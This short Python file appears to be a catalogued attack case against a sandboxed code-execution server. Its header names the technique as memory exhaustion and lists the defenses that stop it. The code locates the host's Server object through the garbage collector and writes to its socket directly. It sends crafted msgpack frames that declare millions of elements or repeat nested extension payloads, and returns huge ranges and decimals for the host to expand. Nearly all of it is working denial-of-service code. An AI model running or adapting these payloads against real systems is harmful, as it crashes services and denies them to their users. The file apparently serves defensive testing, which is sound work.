# technique: own
# gains: nothing for itself; a host that unfolds a short message until its memory is full
# stopped by: bounds on ranges, exponents, containers and bytes; a limit on the host's memory
# shown: never, it would do what it says
import decimal
import gc

import msgpack

server = next(o for o in gc.get_objects() if type(o).__name__ == "Server")


def send(body):
    server.sock.sendall(len(body).to_bytes(4, "little") + body)


# %% double
def double(n):
    return range(10**18)
# %% greet
def greet(name):
    return decimal.Decimal("1E+999999999")
# %% table
def table(n):
    many = 4_000_000
    send(b"\x96" + msgpack.packb(server.number) + b"\x00\xdd" + many.to_bytes(4, "big") + b"\x80" * many + b"\xa0\xa0\x80")
# %% each
def each(function, values):
    many = 1_000_000
    send(b"\x96" + msgpack.packb(server.number) + b"\x00\xdd" + many.to_bytes(4, "big") + b"\xd4\x01\x90" * many + b"\xa0\xa0\x80")
# %% fare
age = 30
many = 500
half = bytes(60_000) + b"\x01"
whole = msgpack.packb([msgpack.ExtType(4, half), msgpack.ExtType(4, half[1:] + b"\x03")])
send(msgpack.packb([server.number, 0, [msgpack.ExtType(8, whole)] * 60, "", "", {}]))
